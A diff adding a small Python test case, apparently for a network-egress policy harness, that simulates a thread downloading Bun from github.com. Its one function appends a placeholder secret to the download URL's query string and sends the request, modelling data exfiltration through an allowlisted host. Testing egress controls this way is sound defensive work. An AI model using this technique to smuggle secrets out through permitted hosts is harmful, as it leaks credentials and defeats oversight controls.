@@ -1,0 +1,15 @@
+# act: downloads Bun from github.com
+# source: Lightning-AI/pytorch-lightning#21689
+# when: thread
+# rule: outbound_connectivity
+# asks: connect github.com:443
+# says: github.com
+# proof: arrived
+# to: github.com
+# realistic: the policy allows github.com to the whole process
+from . import incident
+
+
+def act():
+    url = "https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip"
+    incident.https(f"{url}?{incident.SECRET}")
